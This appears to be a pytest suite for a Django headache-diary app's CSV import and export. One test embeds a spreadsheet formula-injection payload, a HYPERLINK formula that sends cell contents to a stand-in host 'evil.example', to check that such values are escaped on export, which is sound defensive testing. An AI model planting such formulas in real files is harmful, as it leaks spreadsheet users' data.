from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError

from diary.interop import services as interop_services
from diary.interop.importers import MAX_FILE_BYTES, MAX_ROWS
from diary.interop.models import DiaryImport
from diary.interop.tasks import pending_imports_expire
from diary.models import DiaryDay, Medication, MedicationIntake
from tests import factories

MIGRAINE_BUDDY_CSV = (
    "Started,Lasted,Pain Level,Pain Position,Symptoms,Triggers,Helpful Medication,"
    "Unhelpful Medication,Notes\n"
    '2026-03-02 22:00,4h,7,Left side,"Nausea, Sensitivity to light, Sensitivity to sound",'
    "Stress,Sumatriptan 50mg,,Woke up with it\n"
    """\
2026-03-03 15:00,2h 30m,3,Both sides,Dizziness,,,Ibuprofen 400mg x2,
2026-03-05 09:15,45m,0,,Aura,,,,
2026-03-10 10:00,1d 2h,5,,Throbbing,Weather,Feverfew,,Long one
"""
)


@pytest.fixture(autouse=True)
def frozen_today():
    with time_machine.travel(dt.datetime(2026, 11, 24, 12, 0, tzinfo=dt.UTC), tick=False):
        yield


def upload(client, content: str | bytes, *, format: str | None = None, name: str = "diary.csv"):
    data = content.encode() if isinstance(content, str) else content
    body = {"file": SimpleUploadedFile(name, data, content_type="text/csv")}
    if format:
        body["format"] = format
    return client.post("/api/v1/me/imports/", body, format="multipart")


def confirm(client, import_id: int, **body):
    return client.post(f"/api/v1/me/imports/{import_id}/confirm/", body, format="json")


def by_date(preview: dict) -> dict[str, dict]:
    return {day["date"]: day for day in preview["days"]}


@pytest.mark.django_db
def test_a_migraine_buddy_export_is_previewed_day_by_day(alice, as_alice):
    response = upload(as_alice, MIGRAINE_BUDDY_CSV)

    assert response.status_code == 201, response.content
    preview = response.json()
    assert preview["format"] == "migraine_buddy"
    assert preview["errors"] == []
    assert preview["conflicts"] == []
    assert preview["new_medications"] == ["Feverfew"]
    days = by_date(preview)
    assert list(days) == ["2026-03-02", "2026-03-03", "2026-03-05", "2026-03-10", "2026-03-11"]
    # The 22:00 attack runs past midnight: 2 h on each day.
    assert days["2026-03-02"]["duration_hours"] == 2
    assert days["2026-03-02"]["peak_severity"] == 3
    assert days["2026-03-02"]["features"] == ["nausea", "phonophobia", "photophobia", "unilateral"]
    assert days["2026-03-02"]["medications"][0]["name"] == "Sumatriptan"
    assert days["2026-03-02"]["medications"][0]["medication"] is not None
    assert days["2026-03-02"]["notes"] == "Woke up with it"
    # Two attacks on the 3rd merge: the highest severity, the hours added up.
    assert days["2026-03-03"]["duration_hours"] == 4.5
    assert days["2026-03-03"]["peak_severity"] == 3
    assert days["2026-03-03"]["rows"] == [2, 3]
    assert days["2026-03-03"]["medications"][0] == {
        "name": "Ibuprofen",
        "doses": 2,
        "medication": factories.medication("Ibuprofen").pk,
    }
    assert days["2026-03-03"]["notes"] == "Other symptoms: Dizziness"
    # Aura without pain is not a headache.
    assert days["2026-03-05"]["headache"] is False
    assert days["2026-03-05"]["features"] == ["aura"]
    assert days["2026-03-05"]["duration_hours"] is None
    assert days["2026-03-10"]["duration_hours"] == 14
    assert days["2026-03-11"]["duration_hours"] == 12
    assert days["2026-03-11"]["peak_severity"] == 2
    assert days["2026-03-10"]["medications"] == [
        {"name": "Feverfew", "doses": 1, "medication": None}
    ]
    assert all(day["status"] == "new" for day in preview["days"])
    # Nothing is written before the patient confirms.
    assert not DiaryDay.objects.exists()
    assert not Medication.objects.filter(owner=alice).exists()


@pytest.mark.django_db
def test_a_migraine_buddy_export_round_trips_into_the_diary(alice, as_alice):
    preview = upload(as_alice, MIGRAINE_BUDDY_CSV).json()

    response = confirm(as_alice, preview["id"])

    assert response.status_code == 200, response.content
    result = response.json()
    assert result["status"] == "committed"
    assert len(result["created"]) == 5
    assert result["medications_created"] == ["Feverfew"]
    feverfew = Medication.objects.get(owner=alice)
    assert (feverfew.name, feverfew.medication_class) == ("Feverfew", "other")
    day = as_alice.get("/api/v1/diary/2026-03-03/").json()
    assert day["headache"] is True
    assert day["duration_hours"] == 4.5
    assert day["peak_severity"] == 3
    assert day["features"]["nausea"] is True
    assert day["medications"][0]["name"] == "Ibuprofen"
    assert day["medications"][0]["doses"] == 2
    assert day["moderate_severe_day"] is True
    listed = as_alice.get("/api/v1/diary/?from=2026-03-01&to=2026-03-31").json()
    assert [d["date"] for d in listed] == [
        "2026-03-02",
        "2026-03-03",
        "2026-03-05",
        "2026-03-10",
        "2026-03-11",
    ]
    alice.refresh_from_db()
    assert alice.data_changed_at == dt.datetime(2026, 11, 24, 12, 0, tzinfo=dt.UTC)


@pytest.mark.django_db
def test_importing_the_same_file_twice_changes_nothing(alice, as_alice):
    confirm(as_alice, upload(as_alice, MIGRAINE_BUDDY_CSV).json()["id"])
    before = list(DiaryDay.objects.values_list("date", "revision", "updated_at"))
    medicines = Medication.objects.count()

    preview = upload(as_alice, MIGRAINE_BUDDY_CSV).json()
    assert preview["conflicts"] == []
    assert preview["new_medications"] == []
    assert {day["status"] for day in preview["days"]} == {"unchanged"}
    result = confirm(as_alice, preview["id"], overwrite_conflicts=True).json()

    assert result["created"] == result["updated"] == []
    assert len(result["unchanged"]) == 5
    assert list(DiaryDay.objects.values_list("date", "revision", "updated_at")) == before
    assert Medication.objects.count() == medicines


@pytest.mark.django_db
def test_conflicting_days_are_skipped_unless_the_patient_says_overwrite(alice, as_alice):
    kept = factories.HeadacheDayFactory(
        patient=alice, date=dt.date(2026, 3, 2), peak_severity=1, notes="Mine"
    )
    preview = upload(as_alice, MIGRAINE_BUDDY_CSV).json()
    assert preview["conflicts"] == ["2026-03-02"]
    assert by_date(preview)["2026-03-02"]["status"] == "conflict"

    result = confirm(as_alice, preview["id"]).json()

    assert result["skipped_conflicts"] == ["2026-03-02"]
    assert len(result["created"]) == 4
    kept.refresh_from_db()
    assert (kept.peak_severity, kept.notes, kept.revision) == (1, "Mine", 1)

    again = upload(as_alice, MIGRAINE_BUDDY_CSV).json()
    assert again["conflicts"] == ["2026-03-02"]
    result = confirm(as_alice, again["id"], overwrite_conflicts=True).json()
    assert result["updated"] == ["2026-03-02"]
    kept.refresh_from_db()
    assert (kept.peak_severity, kept.notes) == (3, "Woke up with it")


@pytest.mark.django_db
def test_a_generic_csv_imports_and_bad_cells_are_named_by_row_and_column(alice, as_alice):
    content = (
        "date,headache,severity,hours,medicines,notes\n"
        "2026-11-01,yes,moderate,6,Sumatriptan; paracetamol x2,\n"
        "2026-11-02,yes,5,3,,\n"
        "2026-11-03,maybe,1,2,,\n"
        "2026-11-04,no,,,,Fine\n"
        "2026-11-05,no,2,,,\n"
        "2026-12-01,yes,2,3,,\n"
        "01/11/2026,yes,2,3,,\n"
    )
    response = upload(as_alice, content)

    assert response.status_code == 201, response.content
    preview = response.json()
    assert preview["format"] == "generic"
    assert [(e["row"], e["column"]) for e in preview["errors"]] == [
        (3, "severity"),
        (4, "headache"),
        (6, "severity"),
        (7, "date"),
        (8, "date"),
    ]
    assert "in the future" in preview["errors"][3]["message"]
    assert "no severity" in preview["errors"][2]["message"]
    days = by_date(preview)
    assert list(days) == ["2026-11-01", "2026-11-04"]
    # "paracetamol" finds the catalogue's "Paracetamol (acetaminophen)".
    assert [m["medication"] for m in days["2026-11-01"]["medications"]] == [
        factories.medication("Sumatriptan").pk,
        factories.medication("Paracetamol (acetaminophen)").pk,
    ]
    confirm(as_alice, preview["id"])
    day = DiaryDay.objects.get(patient=alice, date=dt.date(2026, 11, 1))
    assert day.duration_hours == Decimal(6)
    assert sorted(day.intakes.values_list("doses", flat=True)) == [1, 2]


@pytest.mark.django_db
def test_a_file_with_no_usable_row_is_refused_with_its_errors(as_alice):
    response = upload(as_alice, "date,headache,severity\n2026-11-01,yes,9\n")
    assert response.status_code == 400
    body = response.json()
    assert body["file"] == ["No day in this file can be imported."]
    assert body["errors"][0]["row"] == 2
    assert body["errors"][0]["column"] == "severity"
    assert not DiaryImport.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("", "empty"),
        ("when,what\n2026-01-01,x\n", "Unknown file layout"),
        ("date,headache\n", "no diary rows"),
        ("Started,Pain Level\n01/02/2026 10:00,5\n", "day-first or month-first"),
    ],
)
def test_malformed_files_get_a_clear_message(as_alice, content, message):
    response = upload(as_alice, content)
    assert response.status_code == 400
    assert message in response.json()["file"][0]


@pytest.mark.django_db
def test_a_named_format_must_have_its_columns(as_alice):
    response = upload(as_alice, "date,headache\n2026-11-01,no\n", format="migraine_buddy")
    assert response.status_code == 400
    assert response.json()["file"] == ["The file has no column started, pain level."]


@pytest.mark.django_db
def test_a_file_over_the_size_limit_is_refused(as_alice):
    big = "date,headache,notes\n" + "2026-11-01,no," + "x" * MAX_FILE_BYTES + "\n"
    response = upload(as_alice, big)
    assert response.status_code == 400
    assert response.json() == {"file": ["The file is larger than 2 MB."]}


@pytest.mark.django_db
def test_more_than_twenty_years_of_rows_is_refused(as_alice):
    rows = "".join("2026-11-01,no\n" for _ in range(MAX_ROWS + 1))
    response = upload(as_alice, "date,headache\n" + rows)
    assert response.status_code == 400
    assert "20 years" in response.json()["file"][0]


@pytest.mark.django_db
def test_a_row_more_than_twenty_years_old_is_refused(as_alice):
    response = upload(as_alice, "date,headache\n1990-05-01,no\n2026-11-01,no\n")
    (error,) = response.json()["errors"]
    assert (error["row"], error["column"]) == (2, "date")


@pytest.mark.django_db
@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "cp1252"])
def test_spreadsheet_encodings_keep_accented_notes(alice, as_alice, encoding):
    content = (
        "date;headache;severity;hours;medicines;notes\r\n2026-11-01;yes;mild;2,5;;Café crème\r\n"
    )
    preview = upload(as_alice, content.encode(encoding)).json()
    confirm(as_alice, preview["id"])
    assert DiaryDay.objects.get(patient=alice).notes == "Café crème"


@pytest.mark.django_db
def test_binary_uploads_get_a_clear_message(as_alice):
    response = upload(as_alice, b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00", name="x.xlsx")
    assert response.status_code == 400
    assert "Save it as 'CSV UTF-8'" in response.json()["file"][0]


@pytest.mark.django_db
def test_imported_formulas_are_stored_as_text_and_exported_escaped(alice, as_alice):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    content = (
        "date,headache,severity,hours,medicines,notes\n"
        f'2026-11-01,yes,2,4,@SUM(1+1),"{formula.replace(chr(34), chr(34) * 2)}"\n'
        "2026-11-02,no,0,,,-1+2\n"
    )
    preview = upload(as_alice, content).json()
    assert preview["new_medications"] == ["@SUM(1+1)"]
    confirm(as_alice, preview["id"])
    assert DiaryDay.objects.get(date=dt.date(2026, 11, 1)).notes == formula
    assert Medication.objects.get(owner=alice).name == "@SUM(1+1)"

    exported = as_alice.get("/api/v1/me/diary.csv")

    assert exported["Content-Type"] == "text/csv; charset=utf-8"
    text = exported.content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    assert ",'@SUM(1+1)," in text
    assert ",'-1+2\r\n" in text
    for line in text.splitlines():
        for cell in line.split(","):
            assert not cell.startswith(("=", "+", "@", "-"))
    # The escaped export is read back as written: nothing changes.
    again = upload(as_alice, exported.content, name="headache-diary.csv").json()
    assert {day["status"] for day in again["days"]} == {"unchanged"}


@pytest.mark.django_db
def test_only_the_owner_sees_or_confirms_an_import(
    alice, as_alice, as_bob, as_dave, carol, as_carol
):
    import_id = upload(as_alice, MIGRAINE_BUDDY_CSV).json()["id"]
    for client in (as_bob, as_dave, as_carol):
        assert client.get(f"/api/v1/me/imports/{import_id}/").status_code == 404
        assert confirm(client, import_id, overwrite_conflicts=True).status_code == 404
    assert as_dave.post("/api/v1/me/imports/", {}, format="multipart").status_code == 403
    assert not DiaryDay.objects.exists()
    assert as_alice.get(f"/api/v1/me/imports/{import_id}/").json()["status"] == "pending"


@pytest.mark.django_db
def test_an_import_is_confirmed_once(alice, as_alice):
    import_id = upload(as_alice, MIGRAINE_BUDDY_CSV).json()["id"]
    assert confirm(as_alice, import_id).status_code == 200
    assert confirm(as_alice, import_id).status_code == 409


@pytest.mark.django_db
def test_confirming_insists_on_a_real_boolean(alice, as_alice):
    import_id = upload(as_alice, MIGRAINE_BUDDY_CSV).json()["id"]
    response = confirm(as_alice, import_id, overwrite_conflicts="yes")
    assert response.status_code == 400
    assert "overwrite_conflicts" in response.json()
    assert not DiaryDay.objects.exists()


@pytest.mark.django_db
def test_the_import_endpoints_are_in_the_openapi_schema(as_alice):
    schema = as_alice.get("/api/schema/", HTTP_ACCEPT="application/json").json()
    paths = schema["paths"]
    assert "multipart/form-data" in paths["/api/v1/me/imports/"]["post"]["requestBody"]["content"]
    assert "/api/v1/me/imports/{import_id}/confirm/" in paths
    assert "/api/v1/patients/{patient_id}/fhir/" in paths
    assert "/api/v1/calendar/{token}.ics" in paths


def years_of_diary_csv(*, years: int, medicines: int) -> str:
    """A generic CSV with a headache every day, three of ``medicines`` medicines each."""
    lines = ["date,headache,severity,hours,medicines,disability,notes"]
    end = dt.date(2026, 11, 23)
    day = end - dt.timedelta(days=365 * years - 1)
    number = 0
    while day <= end:
        taken = "; ".join(f"Remedy {(number + k) % medicines} x2" for k in range(3))
        lines.append(f"{day.isoformat()},yes,moderate,6,{taken},1,Woke up with it")
        day += dt.timedelta(days=1)
        number += 1
    return "\n".join(lines) + "\n"


@pytest.mark.django_db
def test_confirming_years_of_diary_takes_a_fixed_number_of_queries(
    alice, as_alice, django_assert_max_num_queries
):
    preview = upload(as_alice, years_of_diary_csv(years=2, medicines=30)).json()

    # One statement per day (and per new medicine) made a 20-year file take 31 s.
    with django_assert_max_num_queries(40):
        response = confirm(as_alice, preview["id"])

    assert response.status_code == 200, response.content
    result = response.json()
    assert len(result["created"]) == 730
    assert len(result["medications_created"]) == 30
    day = as_alice.get("/api/v1/diary/2026-11-23/").json()
    assert (day["peak_severity"], day["duration_hours"], day["disability"]) == (2, 6, 1)
    assert sorted((m["name"], m["doses"]) for m in day["medications"]) == [
        ("Remedy 10", 2),
        ("Remedy 11", 2),
        ("Remedy 9", 2),
    ]
    assert day["revision"] == 1
    assert DiaryDay.objects.filter(patient=alice).count() == 730


@pytest.mark.django_db
def test_overwriting_conflicts_in_bulk_bumps_each_days_revision(alice, as_alice):
    kept = factories.HeadacheDayFactory(patient=alice, date=dt.date(2026, 11, 23), notes="Mine")
    MedicationIntake.objects.create(diary_day=kept, medication=factories.medication("Sumatriptan"))
    preview = upload(as_alice, years_of_diary_csv(years=1, medicines=5)).json()
    assert preview["conflicts"] == ["2026-11-23"]

    result = confirm(as_alice, preview["id"], overwrite_conflicts=True).json()

    assert result["updated"] == ["2026-11-23"]
    day = as_alice.get("/api/v1/diary/2026-11-23/").json()
    assert day["revision"] == 2
    assert day["notes"] == "Woke up with it"
    assert sorted(m["name"] for m in day["medications"]) == ["Remedy 0", "Remedy 1", "Remedy 4"]


@pytest.mark.django_db
def test_a_confirm_that_fails_midway_writes_nothing_and_can_be_retried(
    alice, as_alice, monkeypatch
):
    import_id = upload(as_alice, MIGRAINE_BUDDY_CSV).json()["id"]

    def day_saved_meanwhile(**kwargs):
        raise IntegrityError("duplicate key value violates unique constraint")

    with monkeypatch.context() as patched:
        patched.setattr(interop_services.services, "patient_data_changed", day_saved_meanwhile)
        response = confirm(as_alice, import_id)

    assert response.status_code == 409
    assert "Try again" in response.json()["detail"]
    assert not DiaryDay.objects.exists()
    assert not Medication.objects.filter(owner=alice).exists()
    assert as_alice.get(f"/api/v1/me/imports/{import_id}/").json()["status"] == "pending"
    assert confirm(as_alice, import_id).status_code == 200
    assert DiaryDay.objects.filter(patient=alice).count() == 5


@pytest.mark.django_db
def test_a_pending_import_can_be_discarded_by_its_owner_only(alice, as_alice, as_bob):
    import_id = upload(as_alice, MIGRAINE_BUDDY_CSV).json()["id"]

    assert as_bob.delete(f"/api/v1/me/imports/{import_id}/").status_code == 404
    assert as_alice.delete(f"/api/v1/me/imports/{import_id}/").status_code == 204

    assert as_alice.get(f"/api/v1/me/imports/{import_id}/").status_code == 404
    assert confirm(as_alice, import_id).status_code == 404
    assert not DiaryImport.objects.exists()
    assert not DiaryDay.objects.exists()


@pytest.mark.django_db
def test_a_preview_left_unconfirmed_for_a_week_expires(alice, as_alice):
    stale_id = upload(as_alice, MIGRAINE_BUDDY_CSV).json()["id"]
    confirmed_id = upload(as_alice, MIGRAINE_BUDDY_CSV).json()["id"]
    confirm(as_alice, confirmed_id)

    with time_machine.travel(dt.datetime(2026, 12, 1, 12, 1, tzinfo=dt.UTC), tick=False):
        assert as_alice.get(f"/api/v1/me/imports/{stale_id}/").status_code == 404
        assert confirm(as_alice, stale_id).status_code == 404
        assert pending_imports_expire.apply().get() == 1

    assert list(DiaryImport.objects.values_list("pk", flat=True)) == [confirmed_id]


@pytest.mark.django_db
def test_a_preview_younger_than_a_week_is_kept(alice, as_alice):
    import_id = upload(as_alice, MIGRAINE_BUDDY_CSV).json()["id"]

    with time_machine.travel(dt.datetime(2026, 11, 30, 12, 0, tzinfo=dt.UTC), tick=False):
        assert pending_imports_expire.apply().get() == 0
        assert confirm(as_alice, import_id).status_code == 200


def test_an_imported_headache_without_hours_is_stored_as_of_unknown_duration(alice, as_alice):
    content = "date,headache,severity,hours,medicines,notes\n2026-11-01,yes,severe,,,\n"
    preview = upload(as_alice, content).json()

    confirm(as_alice, preview["id"])

    day = as_alice.get("/api/v1/diary/2026-11-01/").json()
    assert by_date(preview)["2026-11-01"]["duration_known"] is False
    assert (day["duration_known"], day["duration_unknown_day"], day["headache_day"]) == (
        False,
        True,
        False,
    )


def test_a_duration_band_survives_an_export_and_re_import(alice, as_alice):
    as_alice.put(
        "/api/v1/diary/2026-11-02/",
        {"headache": True, "peak_severity": 3, "duration_band": "4_h_or_more"},
        format="json",
    )
    exported = as_alice.get("/api/v1/me/diary.csv").content
    as_alice.delete("/api/v1/diary/2026-11-02/")

    preview = upload(as_alice, exported).json()
    confirm(as_alice, preview["id"])

    day = as_alice.get("/api/v1/diary/2026-11-02/").json()
    assert (day["duration_band"], day["duration_known"], day["headache_day"]) == (
        "4_h_or_more",
        True,
        True,
    )


def test_an_unknown_duration_band_is_named_by_row_and_column(as_alice):
    content = "date,headache,severity,duration_band\n2026-11-01,yes,3,all day\n"

    response = upload(as_alice, content)

    assert response.status_code == 400
    assert response.json()["errors"][0]["column"] == "duration_band"


def test_an_imported_brand_name_is_the_catalogue_medicine_it_names(alice, as_alice):
    content = "date,headache,severity,hours,medicines\n2026-10-01,yes,3,8,Imigran x1\n"
    preview = upload(as_alice, content).json()

    assert preview["new_medications"] == []
    confirm(as_alice, preview["id"])

    [intake] = MedicationIntake.objects.filter(diary_day__patient=alice)
    assert intake.medication.name == "Sumatriptan"
